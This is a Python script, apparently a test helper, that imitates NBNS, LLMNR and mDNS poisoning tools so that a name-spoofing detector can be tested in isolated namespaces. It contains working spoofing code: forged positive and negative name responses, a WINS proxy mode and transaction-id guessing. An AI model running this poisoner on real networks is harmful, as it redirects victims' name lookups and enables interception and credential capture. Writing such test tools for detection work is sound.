#!/usr/bin/env python3
"""A small poisoner: plays what the published name-service spoofing tools do, for tests of the watcher in namespaces of their own.

It answers broadcast name queries with its own address (or --target's), and on wish LLMNR and mDNS questions; sends conflict or release
demands; denies names; or guesses ids. It holds no name and registers none. With --proxy it is a WINS proxy instead: it answers for the
names of a table with the addresses of their true holders.

usage: poisoner.py answer --address A [--target A] [--llmnr | --only-llmnr | --only-mdns] [--only NAME,...] [--except NAME,...]
       poisoner.py proxy --address A --table NAME:XX:ADDRESS,...
       poisoner.py deny --address A
       poisoner.py guess --to A --name NAME --suffix XX --address A [--count N]
"""
import argparse
import select
import socket
import struct
import sys

import packets

UNIQUE_SUFFIXES = (0x00, 0x03, 0x20)


def nbns_socket():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", packets.PORT))
    return sock


def multicast_socket(group, port, address):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", port))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(address))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    return sock


def positive(request, address):
    return packets.response(request, request["name"], packets.QUERY, 0, struct.pack(">H", 0) + packets.ip(address), ttl=165)


def read_query(data):
    """A broadcast question for a name, or None."""
    try:
        request = packets.parse(data)
    except (ValueError, IndexError, struct.error):
        return None
    if request["response"] or request["opcode"] != packets.QUERY or request.get("qtype") != packets.NB or not request["broadcast"]:
        return None
    return request


def answer_dns(sock, address):
    data, peer = sock.recvfrom(2048)
    if len(data) < 17 or data[2] & 0x80:
        return
    name = data[12:].split(b"\0", 1)[0] + b"\0"
    record = name + struct.pack(">HHIH", 1, 1, 30, 4) + packets.ip(address)
    if sock.getsockname()[1] == 5353:
        reply, to = data[:2] + struct.pack(">HHHHH", 0x8400, 0, 1, 0, 0) + record, ("224.0.0.251", 5353)
    else:
        reply, to = data[:2] + struct.pack(">HHHHH", 0x8000, 1, 1, 0, 0) + name + struct.pack(">HH", 1, 1) + record, peer
    sock.sendto(reply, to)


def answer(args):
    sock = nbns_socket()
    sockets = [] if args.only_llmnr or args.only_mdns else [sock]
    if args.llmnr or args.only_llmnr:
        sockets.append(multicast_socket("224.0.0.252", 5355, args.address))
    if args.llmnr or args.only_mdns:
        sockets.append(multicast_socket("224.0.0.251", 5353, args.address))
    only, but = [set(filter(None, text.upper().split(","))) for text in (args.only, getattr(args, "except"))]
    print("ready", flush=True)
    while True:
        for ready in select.select(sockets, [], [])[0]:
            if ready is not sock:
                answer_dns(ready, args.target or args.address)
                continue
            data, peer = sock.recvfrom(2048)
            request = read_query(data)
            if request is None or request["name"][15] not in UNIQUE_SUFFIXES or peer[0] == args.address:
                continue
            stem = request["name"][:15].rstrip().decode("latin-1")
            if (only and stem not in only) or stem in but:
                continue
            sock.sendto(positive(request, args.target or args.address), peer)


def proxy(args):
    sock = nbns_socket()
    table = {}
    for row in args.table.split(","):
        name, suffix, address = row.split(":")
        table[packets.name16(name.upper(), int(suffix, 16))] = address
    print("ready", flush=True)
    while True:
        data, peer = sock.recvfrom(2048)
        request = read_query(data)
        if request is not None and request["name"] in table:
            sock.sendto(positive(request, table[request["name"]]), peer)


def deny(args):
    sock = nbns_socket()
    print("ready", flush=True)
    while True:
        data, peer = sock.recvfrom(2048)
        request = read_query(data)
        if request is not None and peer[0] != args.address:
            sock.sendto(packets.response(request, request["name"], packets.QUERY, 3, b"", rrtype=packets.NULL), peer)


def guess(args):
    sock = nbns_socket()
    raw = packets.name16(args.name.upper(), int(args.suffix, 16))
    for trn_id in range(1000, 1000 + args.count):
        sock.sendto(positive({"id": trn_id, "name": raw}, args.address), (args.to, packets.PORT))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=["answer", "proxy", "deny", "guess"])
    for option in ("--address", "--target", "--to", "--name", "--table"):
        parser.add_argument(option)
    parser.add_argument("--only", default="")
    parser.add_argument("--except", default="")
    parser.add_argument("--suffix", default="20")
    parser.add_argument("--count", type=int, default=100)
    for option in ("--llmnr", "--only-llmnr", "--only-mdns"):
        parser.add_argument(option, action="store_true")
    args = parser.parse_args()
    globals()[args.what](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
